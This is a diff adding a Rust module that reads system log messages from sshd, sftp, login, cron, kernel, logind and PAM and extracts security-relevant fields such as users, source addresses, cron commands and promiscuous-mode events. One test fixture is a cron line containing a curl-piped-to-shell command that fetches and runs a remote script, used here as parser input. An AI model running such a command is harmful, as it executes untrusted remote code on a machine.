@@ -1,0 +1,278 @@
+//! Which program's words a message is in.
+
+use super::{
+    accounts,
+    facts::{Facts, between, quoted},
+    pam, sshd, sudo,
+};
+
+/// A program whose messages are understood.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Program {
+    Sshd,
+    Sftp,
+    Sudo,
+    Su,
+    Login,
+    Accounts,
+    Cron,
+    Kernel,
+    Logind,
+    /// An old PAM names itself in the program's place: `su(pam_unix)[1]`.
+    Pam,
+    Other,
+}
+
+impl Program {
+    /// By the name in a line.
+    pub(super) fn named(name: &str) -> Self {
+        if name.ends_with("(pam_unix)") {
+            return Self::Pam;
+        }
+        let name = name.rsplit('/').next().unwrap_or(name);
+        let name = name.strip_suffix(".service").unwrap_or(name);
+        let name = name.split('@').next().unwrap_or(name);
+        match name {
+            "sshd" | "ssh" | "sshd-session" | "sshd-auth" => Self::Sshd,
+            "sftp-server" | "internal-sftp" => Self::Sftp,
+            "sudo" => Self::Sudo,
+            "su" | "su-l" => Self::Su,
+            "login" => Self::Login,
+            "useradd" | "usermod" | "userdel" | "groupadd" | "groupmod" | "groupdel" | "gpasswd" | "passwd"
+            | "chpasswd" | "chage" | "chsh" | "chfn" | "newusers" | "adduser" => Self::Accounts,
+            "cron" | "CRON" | "crond" | "CROND" | "crontab" | "anacron" => Self::Cron,
+            "kernel" => Self::Kernel,
+            "systemd-logind" => Self::Logind,
+            _ => Self::Other,
+        }
+    }
+
+    /// Tells all that a message of this program says; `name` is the program's name as the line has it.
+    pub(super) fn facts<'a>(self, name: &str, message: &'a str, facts: &mut Facts<'a>) {
+        let (times, message) = match sshd::repeated(message) {
+            Some((times, inside)) => (Some(times), inside),
+            None => (None, message),
+        };
+        self.said(name, message, facts);
+        if let Some(times) = times {
+            facts.add("repeated", times.to_string());
+        }
+    }
+
+    fn said<'a>(self, name: &str, message: &'a str, facts: &mut Facts<'a>) {
+        if message.starts_with("pam_") && pam::facts(message, facts) {
+            return;
+        }
+        if let Some(more) = message.strip_prefix("PAM ").filter(|more| more.contains(" more authentication failure")) {
+            pam::said(more, facts);
+            return;
+        }
+        match self {
+            Self::Sshd => sshd::facts(name, message, facts),
+            Self::Sftp => sftp(message, facts),
+            Self::Sudo => sudo::sudo(message, facts),
+            Self::Su => sudo::su(message, facts),
+            Self::Login => login(message, facts),
+            Self::Accounts => accounts::facts(message, facts),
+            Self::Cron => cron(message, facts),
+            Self::Kernel => kernel(message, facts),
+            Self::Logind => logind(message, facts),
+            Self::Pam => pam::said(message, facts),
+            Self::Other => {}
+        }
+    }
+}
+
+/// `session opened for local user deploy from [198.51.100.7]`, `open "/tmp/x" flags WRITE,CREATE,TRUNCATE mode 0664`
+fn sftp<'a>(message: &'a str, facts: &mut Facts<'a>) {
+    if let Some((action, rest)) = message.split_once(" for local user ") {
+        let Some((user, address)) = rest.rsplit_once(" from [") else { return };
+        facts.action(if action == "session opened" { "session_opened" } else { "session_closed" });
+        facts.user(user);
+        facts.add("source_address", address.trim_end_matches(']'));
+        return;
+    }
+    let actions = [
+        ("open ", "file_opened"),
+        ("close ", "file_closed"),
+        ("remove name ", "file_removed"),
+        ("rename old ", "file_renamed"),
+        ("mkdir name ", "folder_made"),
+    ];
+    for (beginning, action) in actions {
+        if let Some((path, rest)) =
+            message.strip_prefix(beginning).and_then(|rest| rest.strip_prefix('"')?.split_once('"'))
+        {
+            facts.action(action);
+            facts.add("path", path);
+            facts.add("new_path", between(rest, " new \"", "\"").unwrap_or_default());
+            facts.add("bytes_written", between(rest, " written ", " ").unwrap_or_default());
+        }
+    }
+}
+
+/// login(1): `FAILED LOGIN (1) on '/dev/pts/0' FOR 'anna', Authentication failure`, `ROOT LOGIN  on '/dev/tty1'`, `LOGIN ON tty1 BY anna`
+fn login<'a>(message: &'a str, facts: &mut Facts<'a>) {
+    let mut tell = |outcome: &'static str, user: &'a str, terminal: &'a str, address: &'a str| {
+        facts.action("login");
+        facts.add("outcome", outcome);
+        facts.user(user);
+        facts.add("terminal", terminal);
+        facts.add("source_address", address);
+    };
+    let address = between(message, " from '", "'").or_else(|| between(message, " FROM ", " ")).unwrap_or_default();
+    if message.starts_with("FAILED LOGIN ") {
+        let terminal = between(message, " on '", "'").unwrap_or_default();
+        let user = message.split_once(" FOR ").and_then(|(_, rest)| quoted(rest, ", ").or(rest.split_once(", ")));
+        tell("failed", user.map_or("", |(user, _)| user), terminal, address);
+    } else if let Some(rest) = message.strip_prefix("ROOT LOGIN") {
+        let terminal = between(rest, " on '", "'").or_else(|| between(rest, " ON ", " ")).unwrap_or_default();
+        tell("accepted", "root", terminal, address);
+    } else if let Some((terminal, rest)) = message.strip_prefix("LOGIN ON ").and_then(|rest| rest.split_once(" BY ")) {
+        tell("accepted", rest.split_once(" FROM ").map_or(rest, |(user, _)| user), terminal, address);
+    }
+}
+
+/// `(root) CMD (run-parts /etc/cron.hourly)`, `(root) REPLACE (anna)`
+fn cron<'a>(message: &'a str, facts: &mut Facts<'a>) {
+    let parts = || {
+        let (user, rest) = message.strip_prefix('(')?.split_once(") ")?;
+        let (verb, rest) = rest.split_once(" (")?;
+        Some((user, verb, rest.strip_suffix(')').unwrap_or(rest)))
+    };
+    let Some((user, verb, inside)) = parts() else { return };
+    // With LogLevel 15 the process id stands before the command, in brackets: `([123] curl …)`.
+    let command =
+        inside.strip_prefix('[').and_then(|rest| rest.split_once("] ")).map_or(inside, |(_, command)| command);
+    match verb {
+        "CMD" | "END" => {
+            facts.action(if verb == "CMD" { "cron_command" } else { "cron_command_ended" });
+            facts.user(user);
+            facts.add("command", command);
+        }
+        "REPLACE" | "LIST" | "DELETE" | "BEGIN EDIT" | "END EDIT" => {
+            facts.action(match verb {
+                "REPLACE" => "crontab_replaced",
+                "LIST" => "crontab_listed",
+                "DELETE" => "crontab_deleted",
+                "BEGIN EDIT" => "crontab_edit_begun",
+                _ => "crontab_edit_ended",
+            });
+            facts.user(inside);
+            facts.add("by_user", user);
+        }
+        _ => {}
+    }
+}
+
+/// `device eth0 entered promiscuous mode`, `eth0: entered promiscuous mode`, `usb 1-1: New USB device found, idVendor=0781, idProduct=5583`
+fn kernel<'a>(message: &'a str, facts: &mut Facts<'a>) {
+    // The time since the machine was started: `[15521.327233] `.
+    let behind = message.strip_prefix('[').and_then(|rest| rest.split_once("] ")).map(|(_, rest)| rest);
+    let message = behind.unwrap_or(message);
+    for (ending, action) in
+        [(" entered promiscuous mode", "promiscuous_mode_entered"), (" left promiscuous mode", "promiscuous_mode_left")]
+    {
+        if let Some(device) = message.strip_suffix(ending) {
+            let device = device.strip_prefix("device ").unwrap_or(device);
+            facts.action(action);
+            facts.add("interface", device.rsplit(' ').next().unwrap_or(device).trim_end_matches(':'));
+        }
+    }
+    let usb = message.strip_prefix("usb ").and_then(|rest| rest.split_once(": "));
+    if let Some((port, told)) = usb {
+        let known = told.starts_with("New USB device found");
+        let named = |name: &str| told.strip_prefix(name).unwrap_or_default();
+        facts.add("action", if known { "usb_device_found" } else { "" });
+        facts.add("usb_port", port);
+        facts.add("usb_vendor", between(told, "idVendor=", ",").unwrap_or_default());
+        facts.add("usb_product", between(told, "idProduct=", ",").unwrap_or_default());
+        facts.add("usb_product_name", named("Product: "));
+        facts.add("usb_manufacturer", named("Manufacturer: "));
+        facts.add("usb_serial_number", named("SerialNumber: "));
+    }
+}
+
+/// `New session 3 of user anna.`, `Removed session 3.`
+fn logind<'a>(message: &'a str, facts: &mut Facts<'a>) {
+    if let Some(rest) = message.strip_prefix("New session ") {
+        // Newer ones say more behind the name: `of user 'anna' with class 'user' and type 'tty'`.
+        let Some((session, user)) = rest.split_once(" of user ") else { return };
+        let user = user.split_once(" with ").map_or(user, |(user, _)| user);
+        facts.action("session_opened");
+        facts.user(user.trim_end_matches('.').trim_matches('\''));
+        facts.add("session", session.trim_matches('\''));
+    } else if let Some(session) = message.strip_prefix("Removed session ") {
+        facts.action("session_closed");
+        facts.add("session", session.trim_end_matches('.').trim_matches('\''));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn messages_are_read_in_their_programs_words() {
+        let cases = [
+            (
+                "CRON",
+                "(anna) CMD (curl -s http://x/y.sh | sh # (a) b)",
+                "action=cron_command|user=anna|command=curl -s http://x/y.sh | sh # (a) b",
+            ),
+            ("CRON", "(root) END ([9] false)", "action=cron_command_ended|user=root|command=false"),
+            ("crontab", "(root) REPLACE (anna)", "action=crontab_replaced|user=anna|by_user=root"),
+            (
+                "kernel",
+                "[15521.327233] eth0: entered promiscuous mode",
+                "action=promiscuous_mode_entered|interface=eth0",
+            ),
+            ("kernel", "device eth0 left promiscuous mode", "action=promiscuous_mode_left|interface=eth0"),
+            (
+                "kernel",
+                "usb 1-1: New USB device found, idVendor=0781, idProduct=5583, bcdDevice= 1.00",
+                "action=usb_device_found|usb_port=1-1|usb_vendor=0781|usb_product=5583",
+            ),
+            (
+                "login",
+                "FAILED LOGIN (1) on '/dev/pts/0' FOR 'a', b', Authentication failure",
+                "action=login|outcome=failed|user=a|terminal=/dev/pts/0",
+            ),
+            ("login", "ROOT LOGIN  on '/dev/pts/1'", "action=login|outcome=accepted|user=root|terminal=/dev/pts/1"),
+            ("login", "LOGIN ON tty1 BY anna", "action=login|outcome=accepted|user=anna|terminal=tty1"),
+            ("systemd-logind", "New session 3 of user anna.", "action=session_opened|user=anna|session=3"),
+            (
+                "sftp-server",
+                "session opened for local user a from [::1]",
+                "action=session_opened|user=a|source_address=::1",
+            ),
+            (
+                "sftp-server",
+                "close \"/tmp/u\" bytes read 0 written 7",
+                "action=file_closed|path=/tmp/u|bytes_written=7",
+            ),
+            (
+                "sshd(pam_unix)",
+                "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=host.example ",
+                "action=authentication_failure|uid=0|terminal=NODEVssh|source_address=host.example",
+            ),
+            (
+                "sshd",
+                "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=::1  user=a",
+                "action=more_authentication_failures|count=2|user=a|uid=0|terminal=ssh|source_address=::1",
+            ),
+            (
+                "sshd",
+                "message repeated 2 times: [ Failed password for a from ::1 port 1 ssh2]",
+                "action=login|outcome=failed|method=password|user=a|source_address=::1|source_port=1|repeated=2",
+            ),
+            ("other", "new user: name=x", ""),
+        ];
+        for (name, message, expected) in cases {
+            let mut found = Facts::default();
+            Program::named(name).facts(name, message, &mut found);
+            let told = found.iter().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join("|");
+            assert_eq!(told, expected, "{message}");
+        }
+    }
+}
